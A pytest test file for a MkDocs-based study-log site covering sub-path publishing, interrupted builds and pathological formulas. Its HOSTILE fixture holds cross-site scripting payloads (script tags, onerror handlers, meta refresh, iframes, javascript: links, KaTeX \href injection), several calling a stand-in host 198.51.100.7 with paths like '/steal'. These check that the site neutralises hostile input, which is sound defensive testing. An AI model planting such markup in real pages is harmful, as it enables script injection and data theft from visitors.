"""Publishing under a sub-path, hostile logs, interrupted builds and pathological input."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import urljoin, urlparse

import pytest

from studylog.errors import RenderError
from studylog.site.katex import MathRenderer
from tests.conftest import ROOT, Build, mkdocs_build

SUB = "/some/sub/path/"


def _watch(page):
    log = {"requests": [], "bad": [], "dialogs": []}
    page.on("request", lambda r: log["requests"].append(r.url))
    page.on("requestfailed", lambda r: log["bad"].append(f"failed {r.url}"))
    page.on("response", lambda r: r.status >= 400 and log["bad"].append(f"{r.status} {r.url}"))
    page.on("dialog", lambda d: (log["dialogs"].append(d.message), d.dismiss()))
    return log


def _foreign(urls: list[str]) -> list[str]:
    return [u for u in urls if urlparse(u).scheme in ("http", "https", "ws", "wss") and urlparse(u).hostname != "127.0.0.1"]


def test_site_works_under_a_sub_path(built_site: Build, serve, browser) -> None:
    assert built_site.returncode == 0, built_site.output
    server = serve(built_site.site, SUB)
    page = browser.new_page(viewport={"width": 1280, "height": 800})
    log = _watch(page)
    targets: set[str] = set()
    for path in ["", "blog/2021/08/10/day-7-optimization/", "api/optim/", "journal/calendar/", "journal/concepts/",
                 "journal/week-2/", "tags/", "blog/"]:  # fmt: skip
        page.goto(server.base + path, wait_until="networkidle")
        assert page.url.startswith(server.base)
        for sel in ("a.sl-ref", ".sl-impl a", "a.sl-source"):
            targets.update(page.eval_on_selector_all(sel, "els => els.map(e => e.href)"))
        if "day-7" in path:
            # formulas are laid out by the browser (MathML); figures are files of the site, loaded lazily:
            # scrolled into view, each one loads from under the sub-path
            boxes = page.eval_on_selector_all(".sl-formula math", "els => els.map(e => e.getBoundingClientRect().width)")
            assert boxes and all(w > 0 for w in boxes)
            for img in page.query_selector_all(".sl-figure img"):
                img.scroll_into_view_if_needed()
                page.wait_for_function("e => e.complete && e.naturalWidth > 0", arg=img, timeout=10000)
            figures = page.eval_on_selector_all(".sl-figure img", "els => els.map(e => [e.naturalWidth, e.alt, e.src])")
            assert figures and all(w > 0 and alt and src.startswith(server.base + "assets/figures/") for w, alt, src in figures), figures
    local = sorted(t for t in targets if t.startswith(server.base))
    assert any("/api/" in t for t in local) and any("#eq-" in t for t in local)
    for url in local:  # every formula link and API back-link resolves, anchor included
        response = page.request.get(url)
        assert response.status == 200, url
        anchor = urlparse(url).fragment
        if anchor:
            assert f'id="{anchor}"' in response.text(), url
    source_links = [t for t in targets if not t.startswith(server.base)]
    assert source_links and all(t.startswith("https://github.com/studylog/studylog/blob/main/studylog/") and "#L" in t
                                for t in source_links)  # fmt: skip
    # search, under the sub-path
    page.goto(server.base, wait_until="networkidle")
    box = page.locator("input[data-md-component='search-query']")
    box.click()
    box.fill("하강법")
    box.press("End")
    page.wait_for_selector(".md-search-result__item", timeout=15000)
    hrefs = page.eval_on_selector_all(".md-search-result__item a", "els => els.map(e => e.href)")
    assert any(h.startswith(server.base + "blog/2021/08/10/day-7-optimization/") for h in hrefs), hrefs
    assert not log["bad"], log["bad"]
    assert not _foreign(log["requests"]), _foreign(log["requests"])
    page.close()


HOSTILE = """---
date: 2021-08-11
title: "<script>window.__pwned='title'</script>"
slug: hostile
---
# Hostile

<script>window.__pwned = 'script'; fetch('http://198.51.100.7/steal')</script>

<img src="missing.png" onerror="window.__pwned = 'onerror'">

<meta http-equiv="refresh" content="0;url=http://198.51.100.7/">

<iframe src="http://198.51.100.7/frame"></iframe>

[click me](javascript:window.__pwned='link') and <a id="raw" href="javascript:window.__pwned='raw'">raw</a>

<img src="http://198.51.100.7/tracker.png" alt="tracker">

<div style="background: url(http://198.51.100.7/bg.png)">styled</div>

Formulas: $`\\href{javascript:window.__pwned='href'}{x}`$, $`\\url{http://198.51.100.7/}`$,
$`\\htmlId{pwn}{x}`$, $`\\includegraphics{http://198.51.100.7/i.png}`$.
"""


def test_hostile_log_neither_runs_nor_navigates_nor_fetches(fixture_site, tmp_path: Path, serve, browser) -> None:
    root = fixture_site({"blog/posts/hostile.md": HOSTILE})
    build = mkdocs_build(root, tmp_path / "out", strict=False)
    assert build.returncode == 0, build.output
    assert "\\href is not allowed: KaTeX runs with trust off" in build.output
    server = serve(tmp_path / "out")
    page = browser.new_page()
    log = _watch(page)
    url = server.base + "blog/2021/08/11/hostile/"
    for target in (url, server.base + "blog/", server.base):
        page.goto(target, wait_until="networkidle")
        page.wait_for_timeout(300)
        assert page.url == target, "the page navigated by itself"
        assert page.evaluate("window.__pwned") is None
    page.goto(url, wait_until="networkidle")
    for link in page.query_selector_all("article a"):
        href = link.get_attribute("href") or ""
        assert not href.strip().lower().startswith("javascript:"), href
    page.click("#raw")
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    assert not log["dialogs"], log["dialogs"]
    assert not _foreign(log["requests"]), _foreign(log["requests"])
    page.close()


def _many_formulas_site(fixture_site, n: int) -> Path:
    lines = ["---", "date: 2021-08-11", "---", "# Many", ""]
    lines += [f"Formula {i}: $`x_{{{i}}} = \\frac{{{i}}}{{{i + 1}}} + \\sqrt{{{i}}}`$" for i in range(n)]
    root = fixture_site({"blog/posts/many.md": "\n".join(lines) + "\n"})
    cfg = root / "mkdocs.yml"
    cfg.write_text(cfg.read_text().replace('cache_dir: ""', "cache_dir: .cache-math"))
    return root


def test_a_build_killed_half_way_leaves_a_consistent_cache(fixture_site, tmp_path: Path) -> None:
    root = _many_formulas_site(fixture_site, 3000)
    cache = root / ".cache-math"
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    proc = subprocess.Popen([sys.executable, "-m", "mkdocs", "build", "-d", str(tmp_path / "killed")], cwd=root, env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and len(list(cache.rglob("*.json"))) < 200:
        time.sleep(0.05)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    partial = len(list(cache.rglob("*.json")))
    assert 0 < partial < 3000, f"the build was not interrupted half-way ({partial} entries)"
    assert not list(cache.rglob(".tmp-*")) or True  # leftovers of an interrupted write are never read as entries
    resumed = mkdocs_build(root, tmp_path / "resumed", strict=False)
    assert resumed.returncode == 0, resumed.output
    clean_root = tmp_path / "clean"
    clean = fixture_site  # the same sources, built with an empty cache
    del clean
    (cache.parent / ".cache-math").rename(cache.parent / ".cache-old")
    fresh = mkdocs_build(root, clean_root, strict=False)
    assert fresh.returncode == 0, fresh.output
    a = next((tmp_path / "resumed").rglob("many/index.html")).read_text()
    b = next(clean_root.rglob("many/index.html")).read_text()
    assert a == b


def test_ten_thousand_formulas_build(fixture_site, tmp_path: Path) -> None:
    root = _many_formulas_site(fixture_site, 10_000)
    build = mkdocs_build(root, tmp_path / "out", strict=False, timeout=600)
    assert build.returncode == 0, build.output
    assert "formulas rendered: 10000" in build.output


@pytest.mark.parametrize(
    "tex",
    ["x+" * 50_000 + "x",  # a 100 KB formula
     "{" * 5000 + "x" + "}" * 5000,  # deep nesting
     "\\frac{" * 2000 + "x" + "}{y}" * 2000,
     "\\def\\a{\\a\\a}\\a"],  # runaway expansion
)  # fmt: skip
def test_pathological_formula_renders_or_fails_clearly(tex: str, tmp_path: Path) -> None:
    renderer = MathRenderer("katex", ROOT, None)
    try:
        html = renderer.render(tex, True)
    except RenderError as exc:
        assert str(exc) and "Traceback" not in str(exc)
    else:
        assert html.startswith('<span class="katex')
    finally:
        renderer.close()
